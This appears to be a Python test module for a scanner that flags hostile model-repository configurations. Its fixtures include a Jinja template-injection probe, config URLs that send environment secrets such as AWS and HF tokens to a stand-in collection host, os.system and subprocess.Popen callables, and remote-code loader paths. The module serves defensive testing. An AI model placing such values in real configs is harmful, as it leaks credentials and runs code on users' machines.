"""Keys of configurations that lead a loader to code or files, at every depth and under every name that loaders follow."""

from __future__ import annotations

import json
from typing import Any

from openvet.testing.case import Case
from openvet.testing.forge_templates import HOSTILE_TEMPLATES, ORDINARY_TEMPLATES

__all__ = ["CASES"]

_KERNEL = "hub/attention-implementation"
_CODE, _TRUST, _TARGET, _CALLABLE = (
    "hub/custom-code",
    "hub/nested-trust-remote-code",
    "hub/config-target",
    "hub/config-callable",
)
_DEFINES = "import torch\nclass Transformer(torch.nn.Module):\n    def forward(self, x): return x\n"
_INJECTS = "{{ ''.__class__.__mro__ }}"
_REMOTE = {"AutoModel": "example/other--modeling.M"}


def _case(name: str, technique: str, files: dict[str, Any], decision: str, *rules: str, advisory: str = "") -> Case:
    def forge() -> dict[str, bytes]:
        return {key: (value if isinstance(value, str) else json.dumps(value)).encode() for key, value in files.items()}

    return Case(
        id=f"hub/{name}",
        technique=technique,
        forge=forge,
        decision=decision,  # type: ignore[arg-type]
        rules=frozenset(rules),
        advisories=(advisory,) if advisory else (),
    )


def _kernels() -> tuple[Case, ...]:
    places: dict[str, tuple[str, dict[str, Any]]] = {
        "nested": ("config.json", {"text_config": {"_attn_implementation_internal": "example/kernel"}}),
        "deep": ("config.json", {"vision_config": {"a": [{"_attn_implementation_internal": "example/kernel:f"}]}}),
        "by-part": ("config.json", {"_attn_implementation_internal": {"text_config": "example/kernel@main"}}),
        "paged": ("config.json", {"_attn_implementation_internal": "paged|example/kernel"}),
        "experts": ("config.json", {"_experts_implementation_internal": "example/kernel"}),
        "public": ("config.json", {"attn_implementation": "example/kernel"}),
        "generation": ("generation_config.json", {"_attn_implementation_internal": "example/kernel"}),
        "tokenizer": ("tokenizer_config.json", {"_attn_implementation_internal": "example/kernel"}),
    }
    return tuple(
        _case(f"kernel-{name}", f"attention code of another repository: {name.replace('-', ' ')}", {file: value}, "reject",
              _KERNEL, advisory="CVE-2026-4372")
        for name, (file, value) in places.items()
    )  # fmt: skip


def _templates() -> tuple[Case, ...]:
    places: dict[str, dict[str, Any]] = {
        "chat-template-json": {"chat_template.json": {"chat_template": _INJECTS}},
        "processor": {"processor_config.json": {"chat_template": _INJECTS}},
        "by-name": {"tokenizer_config.json": {"chat_template": {"default": "x", "rag": _INJECTS}}},
        "default": {"tokenizer_config.json": {"default_chat_template": _INJECTS}},
        "prompt": {"config.json": {"text_config": {"prompt_template": _INJECTS}}},
        "of-a-server": {"template_chatml.txt": _INJECTS},
        "of-a-web-ui": {"instruction-templates/x.yaml": f"instruction_template: |-\n  {_INJECTS}\n"},
        "of-a-proxy": {"config.yaml": f'model_list:\n- params:\n    initial_prompt_value: "{_INJECTS}"\n'},
    }
    return tuple(
        _case(
            f"template-{name}", f"a hostile template: {name.replace('-', ' ')}", files, "reject", "template/injection"
        )
        for name, files in places.items()
    )


_CFG = '[nlp]\nlang = "en"\npipeline = []\n\n[nlp.before_creation]\n@{} = "{}"\n'
_SPACY = '[nlp]\nlang = "en"\n[components.tagger.model]\n@architectures = "spacy.Tagger.v2"\n[training.optimizer]\n@optimizers = "Adam.v1"\n'
_SECRET_TEXTS = {
    "omegaconf": ("config.yaml", "url: http://collect.example/?k=${oc.env:AWS_SECRET_ACCESS_KEY}\n"),
    "shell": (
        "docker-compose.yml",
        "services:\n  a:\n    image: x\n    environment:\n      HOOK: https://collect.example/${HF_TOKEN}\n",
    ),
    "host": ("conf/a.yaml", "callbacks:\n  ping: https://${env:OPENAI_API_KEY}.collect.example/\n"),
    "jinja": ("params.json", '{"report": "https://collect.example/r?d={{ env.WANDB_API_KEY }}"}'),
    "toml": ("a.toml", 'hook = "wss://collect.example/%(ENV_GITHUB_TOKEN)s"\n'),
}
_ORDINARY_TEXTS = {
    "key": ("config.yaml", "api_key: ${oc.env:OPENAI_API_KEY}\nurl: https://api.example.org/v1/${model}\n"),
    "password": (
        "config.yaml",
        "db: https://user:${oc.env:DB_PASSWORD}@db.example.org/x\nindex: https://${PYPI_TOKEN}@pypi.example.org/simple\n",
    ),
    "port": (
        "docker-compose.yml",
        "services:\n  a:\n    image: x\n    environment:\n      URL: http://localhost:${PORT}/${MODEL_NAME}?top_k=${TOP_K}\n",
    ),
}


def _settings() -> tuple[Case, ...]:
    foreign = (
        ("callbacks", "evil.run.v1"),
        ("architectures", "mylab.Attention.v2"),
        ("misc", "tools/load_any"),
        ("readers", "other-reader.files.v1"),
    )
    return (
        *(_case(f"spacy-{key}", f"spaCy calls a function that is none of its own: @{key}", {"config.cfg": _CFG.format(key, name), "meta.json": {"lang": "en"}},
                "review", _CALLABLE) for key, name in foreign),
        _case("spacy-own", "functions of spaCy and thinc", {"config.cfg": _SPACY + _CFG.partition("\n\n")[2].format("callbacks", "spacy.models_with_nvtx_range.v1"),
                                                            "meta.json": {"lang": "en"}}, "admit"),
        *(_case(f"sent-variable-{name}", f"an address takes up a secret of the environment: {file}", {file: text}, "review", "hub/config-expression")
          for name, (file, text) in _SECRET_TEXTS.items()),
        *(_case(f"ordinary-variable-{name}", f"an address with variables, or a key of its own: {file}", {file: text}, "admit")
          for name, (file, text) in _ORDINARY_TEXTS.items()),
    )  # fmt: skip


CASES: tuple[Case, ...] = (
    *_settings(),
    *_kernels(),
    *_templates(),
    *(_case(f"template-hostile-{name}", f"a template that reaches out: {name.replace('-', ' ')}", {"chat_template.jinja": text},
            "reject", "template/injection") for name, text in HOSTILE_TEMPLATES.items()),
    *(_case(f"template-ordinary-{name}", f"a template in the manner of {name.replace('-', ' ')}", {"chat_template.jinja": text},
            "admit") for name, text in ORDINARY_TEMPLATES.items()),
    _case("kernel-mapping", "a configuration maps layers to kernels of another repository",
          {"config.json": {"kernel_config": {"kernel_mapping": {"RMSNorm": {"cuda": "example/norm:Norm"}}}}}, "review", _KERNEL),
    _case("code-outside", "custom code outside of the folder", {"config.json": {"auto_map": {"AutoModel": "../../x/modeling.M"}}},
          "reject", _CODE),
    _case("code-at-a-place", "custom code at an absolute place", {"tokenizer_config.json": {"auto_map": ["/data/x/tok.T", None]}},
          "reject", _CODE),
    _case("code-at-an-address", "custom code at an address", {"config.json": {"auto_map": {"AutoModel": "https://example.org/x--m.M"}}},
          "reject", _CODE),
    _case("code-elsewhere", "custom code of another repository, which is not here", {"config.json": {"auto_map": _REMOTE}},
          "review", _CODE),
    _case("code-elsewhere-for-nothing", "code of an account that nobody knows, for an architecture that the library has",
          {"config.json": {"model_type": "llama", "auto_map": {"AutoModelForCausalLM": "somebody-x/loader--modeling_llama.LlamaForCausalLM"}}}, "reject", _CODE),
    _case("code-elsewhere-of-its-maker", "code of the account that published the architecture",
          {"config.json": {"model_type": "gemma", "auto_map": {"AutoModelForCausalLM": "google/gemma-x--modeling_gemma.GemmaForCausalLM"}}}, "review", _CODE),
    _case("code-missing", "custom code that is not here", {"config.json": {"auto_map": {"AutoModel": "modeling.M"}}}, "review", _CODE),
    _case("trust-nested", "a nested configuration trusts code of another repository",
          {"config.json": {"text_config": {"trust_remote_code": True, "auto_map": _REMOTE}}}, "reject", _CODE, _TRUST,
          advisory="CVE-2026-5241"),
    _case("trust-backbone", "a nested configuration trusts remote code",
          {"config.json": {"backbone": "example/x", "backbone_kwargs": {"trust_remote_code": True}}}, "review", _TRUST),
    _case("lightning-class-path", "a configuration of Lightning names a callable",
          {"config.yaml": "model:\n  class_path: subprocess.Popen\n  init_args:\n    args: [echo, hello]\n"}, "reject", _TARGET),
    _case("ordinary-lightning", "a configuration of Lightning names classes of its own",
          {"config.yaml": "trainer:\n  callbacks:\n  - class_path: lightning.pytorch.callbacks.ModelCheckpoint\n    init_args:\n      save_top_k: 1\n"}, "admit"),
    _case("monai-import", "an expression of MONAI takes its module from the list of imports",
          {"configs/inference.json": {"imports": ["$import os as o"], "run": ["$o.system('echo hello')"]}}, "reject",
          "hub/config-expression"),
    _case("router", "a router of sentence-transformers names a callable",
          {"router_config.json": {"types": {"query_0": "os.system"}, "structure": {"query": ["query_0"]}}}, "reject", _CALLABLE),
    _case("ordinary-router", "a router of sentence-transformers names its own modules",
          {"router_config.json": {"types": {"query_0": "sentence_transformers.models.Transformer"}, "structure": {"query": ["query_0"]}}},
          "admit"),
    _case("ordinary-own-module", "a module of sentence-transformers in a file of the repository that only defines",
          {"modules.json": [{"idx": 0, "path": "", "type": "custom_st.Transformer"}], "custom_st.py": _DEFINES}, "admit"),
    _case("own-module-that-runs", "a module of sentence-transformers in a file that runs a command",
          {"modules.json": [{"idx": 0, "path": "", "type": "custom_st.Transformer"}],
           "custom_st.py": f"import os\nos.system('echo hello')\n{_DEFINES}"}, "reject", _CALLABLE, "python/process-at-load",
          "hub/python-code"),
    _case("absent-module", "a module of sentence-transformers that is not here",
          {"modules.json": [{"idx": 0, "path": "", "type": "other_st.Transformer"}], "custom_st.py": _DEFINES}, "review", _CALLABLE),
    _case("shadowed-module", "a module of sentence-transformers by the name of a module of Python's",
          {"modules.json": [{"idx": 0, "path": "", "type": "os.system"}], "os.py": _DEFINES}, "reject", _CALLABLE),
    _case("ordinary-own-pipeline", "a pipeline of diffusers in a file of the repository",
          {"model_index.json": {"_class_name": ["pipeline", "P"], "unet": ["unet_x", "Net"]}, "pipeline.py": _DEFINES,
           "unet/unet_x.py": _DEFINES}, "admit"),
    _case("ordinary-own-pipeline-and-part", "a pipeline of diffusers and its component in files of the repository",
          {"model_index.json": {"_class_name": ["pipeline", "P"], "unet": ["unet", "Net"]}, "pipeline.py": _DEFINES,
           "unet/unet.py": _DEFINES}, "admit"),
    _case("pipeline-outside", "a component of a pipeline outside of the folder",
          {"model_index.json": {"_class_name": "P", "unet": ["../../x", "Net"]}}, "reject", _CALLABLE),
    _case("template-ordinary-elsewhere", "templates of several languages under other names",
          {"config.json": {"prompt_template": "{{ .System }} {{ .Prompt }}", "system_template": "{% if x %}"},
           "instruction-templates/a.yaml": "instruction_template: |-\n  {% for m in messages %}{{ m.content }}{% endfor %}\n",
           "template_a.txt": ORDINARY_TEMPLATES["chatml"]}, "admit"),
    _case("requirements-index", "requirements from another index without encryption",
          {"requirements.txt": "--extra-index-url http://192.0.2.1/simple\nx==1.0\n"}, "reject", "hub/requirement-source"),
    _case("ordinary-requirements", "requirements as models have them",
          {"requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.1.0\n"
                               "git+https://github.com/huggingface/transformers.git@v4.40.0\n"}, "admit"),
)  # fmt: skip
